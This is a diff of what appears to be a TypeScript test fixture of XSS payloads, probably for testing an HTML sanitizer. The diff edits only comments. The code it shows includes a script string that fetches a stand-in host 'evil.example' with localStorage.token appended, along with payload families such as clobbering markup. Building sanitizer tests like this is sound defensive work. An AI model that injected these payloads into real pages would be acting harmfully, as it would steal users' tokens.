@@ -1,7 +1,7 @@
-/** Where whatever gets out of its box would call. */
+/** The host that an escaped payload would call. */
 export const elsewhere = 'evil.example'
 
-/** What every payload tries to run: it marks the window, opens a dialog and calls another host. */
+/** The script of every payload: it marks the window, opens a dialog and calls another host. */
 const run = `window.hasRun=(window.hasRun||0)+1;alert(1);fetch('https://${elsewhere}/x?'+localStorage.token)`
 const inAttribute = run.replaceAll("'", '&#39;')
 
@@ -165,7 +165,7 @@ const clobbering = [
   '<plaintext>a',
 ]
 
-/** Every payload, by its family. */
+/** All payloads by family. */
 export const hostileHtml: readonly string[] = [
   ...handlers,
   ...addressed,
